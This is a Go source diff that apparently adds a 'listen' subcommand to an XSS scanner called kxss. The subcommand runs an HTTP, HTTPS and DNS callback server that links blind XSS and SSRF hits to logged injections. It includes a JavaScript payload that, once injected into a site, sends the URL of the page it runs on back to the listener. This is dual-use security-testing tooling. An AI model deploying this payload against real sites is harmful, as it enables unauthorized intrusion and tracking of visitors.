@@ -0,0 +1,314 @@
+package main
+
+import (
+	"bufio"
+	"encoding/binary"
+	"encoding/json"
+	"flag"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"regexp"
+	"strings"
+	"sync"
+	"time"
+)
+
+// blindIDPattern matches the IDs newBlindID generates.
+var blindIDPattern = regexp.MustCompile(`\b[0-9a-f]{16}\b`)
+
+// interaction is a callback received by kxss listen, with the injection
+// its ID belongs to when the -i log has it.
+type interaction struct {
+	Time      time.Time       `json:"time"`
+	Protocol  string          `json:"protocol"`
+	Remote    string          `json:"remote"`
+	ID        string          `json:"id"`
+	Host      string          `json:"host,omitempty"`
+	Path      string          `json:"path,omitempty"`
+	UserAgent string          `json:"user_agent,omitempty"`
+	Page      string          `json:"page,omitempty"`
+	Injection *blindInjection `json:"injection,omitempty"`
+}
+
+// injectionLog looks up IDs in a -blind-log file, reading it again on a
+// miss if it changed since, as a running scan keeps adding to it. Unknown
+// IDs alone, which anyone can send a public listener, do not cause a read.
+type injectionLog struct {
+	path    string
+	mu      sync.Mutex
+	byID    map[string]blindInjection
+	size    int64 // of the file when last read
+	modTime time.Time
+}
+
+func (l *injectionLog) lookup(id string) *blindInjection {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	if inj, ok := l.byID[id]; ok {
+		return &inj
+	}
+	fi, err := os.Stat(l.path)
+	if err != nil {
+		fmt.Fprintf(os.Stderr, "error reading injection log %s: %s\n", l.path, err)
+		return nil
+	}
+	if l.byID != nil && fi.Size() == l.size && fi.ModTime().Equal(l.modTime) {
+		return nil
+	}
+	l.size, l.modTime = fi.Size(), fi.ModTime()
+	if err := l.reload(); err != nil {
+		fmt.Fprintf(os.Stderr, "error reading injection log %s: %s\n", l.path, err)
+		return nil
+	}
+	if inj, ok := l.byID[id]; ok {
+		return &inj
+	}
+	return nil
+}
+
+func (l *injectionLog) reload() error {
+	f, err := os.Open(l.path)
+	if err != nil {
+		return err
+	}
+	defer f.Close()
+	l.byID = make(map[string]blindInjection)
+	scanner := bufio.NewScanner(f)
+	scanner.Buffer(make([]byte, 0, 64*1024), 1024*1024)
+	for scanner.Scan() {
+		var inj blindInjection
+		if json.Unmarshal(scanner.Bytes(), &inj) == nil && inj.ID != "" {
+			l.byID[inj.ID] = inj
+		}
+	}
+	return scanner.Err()
+}
+
+// interactionWriter prints interactions as text or JSON Lines.
+type interactionWriter struct {
+	mu   sync.Mutex
+	w    io.Writer
+	json bool
+}
+
+func (w *interactionWriter) write(in interaction) {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	if w.json {
+		b, err := json.Marshal(in)
+		if err != nil {
+			return
+		}
+		fmt.Fprintln(w.w, string(b))
+		return
+	}
+	what := "unknown injection"
+	if in.Injection != nil {
+		what = fmt.Sprintf("URL: %s Param: %s (%s)", in.Injection.URL, in.Injection.Param, in.Injection.Location)
+		if in.Injection.Kind != "" {
+			what = "[" + strings.ToUpper(in.Injection.Kind) + "] " + what
+		}
+	}
+	fmt.Fprintf(w.w, "[%s] %s from %s ID: %s %s", in.Time.Format(time.RFC3339), in.Protocol, in.Remote, in.ID, what)
+	if in.Page != "" {
+		fmt.Fprintf(w.w, " Page: %s", in.Page)
+	}
+	fmt.Fprintln(w.w)
+}
+
+// callbackScript is served for the script URL in the -blind payload. It
+// reports the page it ran on, which is usually not where it was injected.
+const callbackScript = `(function(){var s=document.currentScript&&document.currentScript.src;if(s){new Image().src=s.replace(/[?#].*$/,"")+"/fired?page="+encodeURIComponent(location.href);}})();`
+
+// callbackHandler records every HTTP request carrying a blind ID.
+func callbackHandler(protocol string, log *injectionLog, record func(interaction)) http.Handler {
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		id := blindIDPattern.FindString(r.URL.Path)
+		if id == "" {
+			id = blindIDPattern.FindString(r.Host)
+		}
+		if id != "" {
+			in := interaction{
+				Time:      time.Now().UTC(),
+				Protocol:  protocol,
+				Remote:    r.RemoteAddr,
+				ID:        id,
+				Host:      r.Host,
+				Path:      r.URL.RequestURI(),
+				UserAgent: r.UserAgent(),
+				Page:      r.URL.Query().Get("page"),
+				Injection: log.lookup(id),
+			}
+			if in.Page == "" {
+				in.Page = r.Referer()
+			}
+			record(in)
+		}
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+		w.Header().Set("Content-Type", "application/javascript")
+		io.WriteString(w, callbackScript)
+	})
+}
+
+// serveDNS answers queries on conn, with an A record for ip when it is
+// set, and records those whose name carries a blind ID.
+func serveDNS(conn net.PacketConn, ip net.IP, log *injectionLog, record func(interaction)) error {
+	buf := make([]byte, 512)
+	for {
+		n, addr, err := conn.ReadFrom(buf)
+		if err != nil {
+			return err
+		}
+		name, qtype, end, ok := parseDNSQuestion(buf[:n])
+		if !ok {
+			continue
+		}
+		if id := blindIDPattern.FindString(strings.ToLower(name)); id != "" {
+			record(interaction{
+				Time:      time.Now().UTC(),
+				Protocol:  "dns",
+				Remote:    addr.String(),
+				ID:        id,
+				Host:      name,
+				Injection: log.lookup(id),
+			})
+		}
+		conn.WriteTo(dnsAnswer(buf[:end], qtype, ip), addr)
+	}
+}
+
+// parseDNSQuestion returns the name and type of the first question in a
+// DNS query, and where that question ends.
+func parseDNSQuestion(msg []byte) (name string, qtype uint16, end int, ok bool) {
+	if len(msg) < 12 || msg[2]&0x80 != 0 || binary.BigEndian.Uint16(msg[4:6]) == 0 {
+		return "", 0, 0, false
+	}
+	var labels []string
+	i := 12
+	for {
+		if i >= len(msg) {
+			return "", 0, 0, false
+		}
+		l := int(msg[i])
+		i++
+		if l == 0 {
+			break
+		}
+		if l > 63 || i+l > len(msg) {
+			return "", 0, 0, false
+		}
+		labels = append(labels, string(msg[i:i+l]))
+		i += l
+	}
+	if i+4 > len(msg) {
+		return "", 0, 0, false
+	}
+	return strings.Join(labels, "."), binary.BigEndian.Uint16(msg[i : i+2]), i + 4, true
+}
+
+// dnsAnswer builds the response to query, which holds the header and the
+// single question: authoritative, with one A record for ip when asked for
+// one.
+func dnsAnswer(query []byte, qtype uint16, ip net.IP) []byte {
+	resp := make([]byte, len(query), len(query)+16)
+	copy(resp, query)
+	resp[2] = 0x84 | resp[2]&0x01 // QR, AA, keep RD
+	resp[3] = 0
+	binary.BigEndian.PutUint16(resp[4:6], 1)
+	binary.BigEndian.PutUint16(resp[8:10], 0)
+	binary.BigEndian.PutUint16(resp[10:12], 0)
+	ip4 := ip.To4()
+	if qtype != 1 || ip4 == nil {
+		binary.BigEndian.PutUint16(resp[6:8], 0)
+		return resp
+	}
+	binary.BigEndian.PutUint16(resp[6:8], 1)
+	resp = append(resp, 0xc0, 12) // name: pointer to the question
+	resp = binary.BigEndian.AppendUint16(resp, 1)
+	resp = binary.BigEndian.AppendUint16(resp, 1)
+	resp = binary.BigEndian.AppendUint32(resp, 60)
+	resp = binary.BigEndian.AppendUint16(resp, 4)
+	return append(resp, ip4...)
+}
+
+// runListen implements "kxss listen": an HTTP(S) and DNS callback server
+// that ties interactions to the injections logged by -blind and -ssrf.
+func runListen(args []string) {
+	fs := flag.NewFlagSet("listen", flag.ExitOnError)
+	var logFile string
+	var httpAddr string
+	var httpsAddr string
+	var certFile string
+	var keyFile string
+	var dnsAddr string
+	var dnsIP string
+	var outputFile string
+	var jsonOutput bool
+	fs.StringVar(&logFile, "i", "blind.jsonl", "-blind-log file to look up callback IDs in")
+	fs.StringVar(&httpAddr, "http", ":80", "address to serve HTTP callbacks on (empty to disable)")
+	fs.StringVar(&httpsAddr, "https", ":443", "address to serve HTTPS callbacks on when -cert is given")
+	fs.StringVar(&certFile, "cert", "", "PEM certificate for HTTPS callbacks")
+	fs.StringVar(&keyFile, "key", "", "PEM private key for -cert (default: read from the -cert file)")
+	fs.StringVar(&dnsAddr, "dns", ":53", "address to answer DNS queries on (empty to disable)")
+	fs.StringVar(&dnsIP, "dns-ip", "", "IPv4 address to answer A queries with, normally this server's")
+	fs.StringVar(&outputFile, "o", "", "file to append interactions to")
+	fs.BoolVar(&jsonOutput, "j", false, "output interactions as JSON Lines")
+	fs.Parse(args)
+
+	var ip net.IP
+	if dnsIP != "" {
+		if ip = net.ParseIP(dnsIP).To4(); ip == nil {
+			fmt.Fprintf(os.Stderr, "-dns-ip must be an IPv4 address\n")
+			os.Exit(1)
+		}
+	}
+	if keyFile == "" {
+		keyFile = certFile
+	}
+	if certFile == "" {
+		httpsAddr = ""
+	}
+
+	out := &interactionWriter{w: os.Stdout, json: jsonOutput}
+	if outputFile != "" {
+		file, err := os.OpenFile(outputFile, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0644)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "error opening output file %s: %s\n", outputFile, err)
+			os.Exit(1)
+		}
+		defer file.Close()
+		out.w = file
+	}
+	log := &injectionLog{path: logFile}
+
+	errs := make(chan error, 3)
+	if httpAddr != "" {
+		go func() {
+			errs <- fmt.Errorf("http: %w", http.ListenAndServe(httpAddr, callbackHandler("http", log, out.write)))
+		}()
+	}
+	if httpsAddr != "" {
+		go func() {
+			errs <- fmt.Errorf("https: %w", http.ListenAndServeTLS(httpsAddr, certFile, keyFile, callbackHandler("https", log, out.write)))
+		}()
+	}
+	if dnsAddr != "" {
+		conn, err := net.ListenPacket("udp", dnsAddr)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "error listening for DNS on %s: %s\n", dnsAddr, err)
+			os.Exit(1)
+		}
+		go func() {
+			errs <- fmt.Errorf("dns: %w", serveDNS(conn, ip, log, out.write))
+		}()
+	}
+	if httpAddr == "" && httpsAddr == "" && dnsAddr == "" {
+		fmt.Fprintf(os.Stderr, "nothing to listen on: -http, -https and -dns are all disabled\n")
+		os.Exit(1)
+	}
+	fmt.Fprintf(os.Stderr, "error in listener %s\n", <-errs)
+	os.Exit(1)
+}